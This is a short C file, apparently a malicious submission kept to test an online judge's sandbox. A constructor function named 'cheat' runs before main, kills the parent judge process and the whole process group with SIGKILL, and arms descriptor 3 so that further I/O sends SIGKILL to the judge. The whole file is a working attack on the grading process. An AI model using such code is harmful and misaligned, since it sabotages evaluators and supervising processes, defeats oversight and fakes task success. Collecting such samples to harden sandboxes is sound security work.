// SPDX-License-Identifier: BSD-2-Clause
/* Tries to end the judge, and all others of its user. */
#include <fcntl.h>
#include <signal.h>
#include <unistd.h>

__attribute__((constructor)) static void cheat(void)
{
	kill(getppid(), SIGKILL);
	kill(0, SIGKILL);
	/* Whoever is the owner of a descriptor hears of what comes in there. */
	signal(SIGIO, SIG_IGN);
	fcntl(3, 8 /* F_SETOWN */, getppid());
	fcntl(3, 10 /* F_SETSIG */, SIGKILL);
	fcntl(3, F_SETFL, O_RDWR | 020000 /* O_ASYNC */);
}
